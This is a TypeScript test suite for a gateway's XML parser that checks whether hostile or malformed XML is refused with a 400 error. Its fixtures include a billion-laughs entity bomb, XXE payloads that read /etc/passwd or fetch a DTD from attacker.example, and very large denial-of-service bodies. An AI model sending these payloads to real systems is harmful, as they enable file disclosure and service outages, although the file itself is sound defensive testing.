import t, { type Test } from 'tap'
import { defaultXmlLimits, parseXml, type XmlLimits } from '../../src/adapters/xml.js'
import { GatewayError } from '../../src/domain/errors.js'

const onMain: XmlLimits = { ...defaultXmlLimits, offloadAboveBytes: undefined }
const tight: XmlLimits = { maxBytes: 4096, maxDepth: 3, maxNodes: 5, maxAttributes: 2, maxTextLength: 8 }

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
${Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n')}
]>
<lolz>&lol9;</lolz>`

/** Rejects with a 400 GatewayError of `code` (and `field` when given); returns it for more checks. */
async function refused (t: Test, xml: string | Buffer, code: string, limits: XmlLimits = onMain, field?: string): Promise<GatewayError> {
  const err = await parseXml(xml, limits).then(() => undefined, (e: unknown) => e)
  t.type(err, GatewayError, `refused: ${String(xml).slice(0, 60)}`)
  const g = err as GatewayError
  t.equal(g.code, code, g.messages?.en)
  t.equal(g.statusCode, 400)
  if (field !== undefined) t.equal(g.field, field)
  t.ok(g.messages.vi.length > 0 && g.messages.en.length > 0, 'bilingual message')
  return g
}

t.test('DTDs are refused before they are read', async t => {
  const cases: Array<[string, string]> = [
    ['billion laughs', billionLaughs],
    ['XXE, external entity', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'],
    ['XXE, parameter entity', '<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><foo/>'],
    ['DOCTYPE alone', '<!DOCTYPE a><a/>'],
    ['DOCTYPE with a public id', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'],
    ['DOCTYPE after comments', '<?xml version="1.0"?>\n<!-- hi --><!-- there -->\n<!doctype a><a/>']
  ]
  for (const [name, xml] of cases) {
    const err = await refused(t, xml, 'XML_FORBIDDEN_CONSTRUCT')
    t.match(err.messages.en, /DOCTYPE/, name)
  }
  // A 1.5 MB internal subset: refused from its first bytes, not after sax has read it all.
  const huge = `<!DOCTYPE a [${'<!ENTITY x "y">'.repeat(100_000)}]><a/>`
  const started = performance.now()
  await refused(t, huge, 'XML_FORBIDDEN_CONSTRUCT')
  t.ok(performance.now() - started < 100, 'refused from the prolog, without reading the internal subset')
})

t.test('DTD constructs elsewhere and processing instructions are refused too', async t => {
  await refused(t, '<a><!ENTITY x SYSTEM></a>', 'XML_FORBIDDEN_CONSTRUCT')
  await refused(t, '<a><!ELEMENT a ANY></a>', 'XML_FORBIDDEN_CONSTRUCT')
  await refused(t, '<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>', 'XML_FORBIDDEN_CONSTRUCT')
  await refused(t, '<a><?php echo 1 ?></a>', 'XML_FORBIDDEN_CONSTRUCT')
  await refused(t, '<a/><?pi?>', 'XML_FORBIDDEN_CONSTRUCT')
  // Misplaced DOCTYPEs and quoted ENTITY declarations are a syntax error to sax: refused either way.
  await refused(t, '<a/><!DOCTYPE a>', 'BAD_XML')
  await refused(t, '<a><!ENTITY x "y"></a>', 'BAD_XML')
  // An undeclared entity is just an error: nothing is ever expanded.
  await refused(t, '<a>&lol9;</a>', 'BAD_XML', onMain, 'a')
})

t.test('limits, with the path where they tripped', async t => {
  t.ok(await parseXml('<a><b><c x="1" y="2">12345678</c></b></a>', tight), 'at every limit exactly: accepted')
  await refused(t, '<a><b><c><d/></c></b></a>', 'XML_LIMIT_EXCEEDED', tight, 'a/b/c/d')
  await refused(t, '<a><b/><b/><b/><b/><b/></a>', 'XML_LIMIT_EXCEEDED', tight, 'a/b')
  await refused(t, '<a><b x="1" y="2" z="3"/></a>', 'XML_LIMIT_EXCEEDED', tight, 'a/b')
  await refused(t, '<a xmlns="urn:a" xmlns:b="urn:b" x="1"/>', 'XML_LIMIT_EXCEEDED', tight, 'a')
  await refused(t, '<a><b>123456789</b></a>', 'XML_LIMIT_EXCEEDED', tight, 'a/b')
  await refused(t, '<a><b>1234<![CDATA[5678]]>9</b></a>', 'XML_LIMIT_EXCEEDED', tight, 'a/b')
  await refused(t, '<a>1234<b/>56789</a>', 'XML_LIMIT_EXCEEDED', tight, 'a')
  await refused(t, '<a><b c="123456789"/></a>', 'XML_LIMIT_EXCEEDED', tight, 'a/b/@c')
  await refused(t, `<a>${' '.repeat(4096)}</a>`, 'XML_LIMIT_EXCEEDED', tight)
  await refused(t, Buffer.alloc(4097, 0x20), 'XML_LIMIT_EXCEEDED', tight)
  const err = await refused(t, `<a>${'é'.repeat(2100)}</a>`, 'XML_LIMIT_EXCEEDED', { ...tight, maxTextLength: 5000 })
  t.match(err.messages.en, /4096 bytes/, 'size counts UTF-8 bytes, not characters')
})

t.test('default limits hold against large hostile bodies, fast', async t => {
  const cases: Array<[string, string, string]> = [
    ['deep', '<a>'.repeat(100_000) + '</a>'.repeat(100_000), `${'a/'.repeat(32)}a`],
    ['wide', `<r>${'<a/>'.repeat(100_000)}</r>`, 'r/a'],
    ['long text', `<r>${'x'.repeat(1_000_000)}</r>`, 'r'],
    ['long attribute', `<r v="${'x'.repeat(100_000)}"/>`, 'r'],
    ['many attributes', `<r ${Array.from({ length: 150_000 }, (_, i) => `a${i}=""`).join(' ')}/>`, 'r'],
    ['long comment', `<r><!--${'x'.repeat(100_000)}--></r>`, 'r']
  ]
  for (const [name, xml, field] of cases) {
    const started = performance.now()
    await refused(t, xml, 'XML_LIMIT_EXCEEDED', onMain, field)
    // Generous for loaded CI machines; what this catches is a guard that comes too late, e.g.
    // the 150,000 attributes going through sax's quadratic duplicate check (tens of seconds).
    t.ok(performance.now() - started < 2000, `${name} refused quickly`)
  }
  await refused(t, `<r>${'<a/>'.repeat(600_000)}</r>`, 'XML_LIMIT_EXCEEDED', onMain)
})

t.test('malformed input is a 400 with a position, never a crash', async t => {
  const cases: Array<[string, string | Buffer, RegExp]> = [
    ['unclosed tag', '<a><b></a>', /Unexpected close tag at line 1, column 10/],
    ['unclosed root', '<a>\n  <b/>\n', /Unclosed root tag at line 3/],
    ['garbage', 'this is not XML', /Non-whitespace before first tag at line 1/],
    ['JSON', '{"a": 1}', /line 1/],
    ['empty', '', /empty document/],
    ['whitespace only', ' \n\t ', /empty document/],
    ['empty bytes', Buffer.alloc(0), /empty document/],
    ['BOM only', '\uFEFF', /empty document/],
    ['only a declaration', '<?xml version="1.0"?>', /no root element/],
    ['trailing text', '<a/>x', /outside of root node/],
    ['two roots', '<a/><b/>', /more than one root/],
    ['repeated attribute', '<a x="1" x="2"/>', /attribute "x" repeated/],
    ['unquoted attribute', '<a x=1/>', /line 1/],
    ['unbound prefix', '<p:a/>', /Unbound namespace prefix/],
    ['prefix resolving to Object.prototype', '<constructor:a/>', /unbound namespace prefix|Unbound/],
    ['bad character reference', '<a>&#0;</a>', /Invalid character entity/],
    ['declaration not first', '\n<?xml version="1.0"?><a/>', /declaration not at the start/],
    ['Latin-1 declaration', '<?xml version="1.0" encoding="ISO-8859-1"?><a/>', /ISO-8859-1.*only UTF-8/],
    ['UTF-16 declaration', "<?xml version='1.0' encoding='UTF-16'?><a/>", /UTF-16/],
    ['Latin-1 bytes', Buffer.from('<a>\xe9</a>', 'latin1'), /not valid UTF-8/],
    ['UTF-16 bytes', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a/>', 'utf16le')]), /not valid UTF-8/],
    ['binary', Buffer.from([0x00, 0x9f, 0x92, 0x96, 0xff]), /not valid UTF-8/]
  ]
  for (const [name, xml, detail] of cases) {
    const err = await refused(t, xml, 'BAD_XML')
    t.match(err.messages.en, detail, name)
  }
  for (const enc of ['UTF-8', 'utf-8', 'utf8']) {
    t.ok(await parseXml(`<?xml version="1.0" encoding="${enc}"?><a/>`), `${enc} accepted`)
  }
})
